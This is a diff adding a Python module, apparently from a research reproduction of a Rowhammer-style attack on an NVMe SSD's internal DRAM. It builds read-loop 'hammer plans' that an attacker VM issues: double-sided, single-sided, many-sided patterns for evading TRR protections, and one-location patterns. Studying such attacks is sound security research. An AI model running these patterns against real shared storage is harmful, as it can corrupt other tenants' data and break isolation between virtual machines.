@@ -1,0 +1,105 @@
+"""Hammer pattern construction (§3.1, design decision D3).
+
+A plan is just the LBA sequence the attacker VM reads in a loop, plus how
+to split the I/O budget.  Patterns:
+
+* **double-sided** — alternate two LBAs whose entries sit in the rows
+  either side of the victim (the paper's demonstrated attack).
+* **single-sided** — one aggressor row next to the victim, paired with a
+  far-away "dummy" row to force row-buffer conflicts (used on the
+  partition *boundary* where only one side is attacker-controlled;
+  "single-sided attacks flip fewer bits in practice").
+* **many-sided** — interleave several aggressor pairs in one loop
+  (TRRespass-style sampler thrashing, for TRR-protected devices).
+* **one-location** — a single address, effective only on closed-page
+  controllers.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import List, Optional, Sequence
+
+from repro.attack.recon import AttackTriple
+from repro.errors import ConfigError
+from repro.nvme.controller import BurstResult
+
+
+@dataclass
+class HammerPlan:
+    """The read loop the attacker will issue."""
+
+    name: str
+    #: Namespace-relative LBAs, in loop order.
+    lbas: List[int]
+    #: Triples this plan attacks (for reporting).
+    triples: List[AttackTriple]
+
+    def execute(self, vm, total_ios: int) -> BurstResult:
+        """Run the loop on a RAW-access VM for ``total_ios`` commands."""
+        if not self.lbas:
+            raise ConfigError("empty hammer plan")
+        repeats = max(1, total_ios // len(self.lbas))
+        return vm.hammer_reads(self.lbas, repeats=repeats)
+
+
+def _relative(lba: int, ns) -> int:
+    if not ns.contains_device_lba(lba):
+        raise ConfigError(
+            "aggressor LBA %d is outside the attacker namespace" % lba
+        )
+    return lba - ns.start_lba
+
+
+def double_sided_plan(triple: AttackTriple, namespace) -> HammerPlan:
+    """Alternate one LBA from each aggressor row of one triple."""
+    left, right = triple.aggressor_pair
+    return HammerPlan(
+        name="double-sided",
+        lbas=[_relative(left, namespace), _relative(right, namespace)],
+        triples=[triple],
+    )
+
+
+def single_sided_plan(
+    triple: AttackTriple, namespace, conflict_lba: Optional[int] = None
+) -> HammerPlan:
+    """One aggressor row plus a distant conflict row.
+
+    The conflict address only exists to close the aggressor row between
+    accesses; it should map far from the victim (caller picks it, default:
+    the numerically farthest attacker LBA)."""
+    aggressor = triple.left_lbas[0] if triple.left_lbas else triple.right_lbas[0]
+    if conflict_lba is None:
+        conflict_lba = (
+            namespace.start_lba
+            if aggressor > namespace.start_lba + namespace.num_lbas // 2
+            else namespace.end_lba - 1
+        )
+    return HammerPlan(
+        name="single-sided",
+        lbas=[_relative(aggressor, namespace), _relative(conflict_lba, namespace)],
+        triples=[triple],
+    )
+
+
+def many_sided_plan(triples: Sequence[AttackTriple], namespace) -> HammerPlan:
+    """Interleave the aggressor pairs of several triples (TRR evasion).
+
+    The loop visits every pair once per cycle, so a TRR sampler with fewer
+    entries than aggressor rows keeps evicting its own state."""
+    if not triples:
+        raise ConfigError("many-sided plan needs at least one triple")
+    lbas: List[int] = []
+    for triple in triples:
+        left, right = triple.aggressor_pair
+        lbas.append(_relative(left, namespace))
+        lbas.append(_relative(right, namespace))
+    return HammerPlan(name="many-sided", lbas=lbas, triples=list(triples))
+
+
+def one_location_plan(lba: int, namespace) -> HammerPlan:
+    """A single repeatedly-read address (closed-page controllers only)."""
+    return HammerPlan(
+        name="one-location", lbas=[_relative(lba, namespace)], triples=[]
+    )
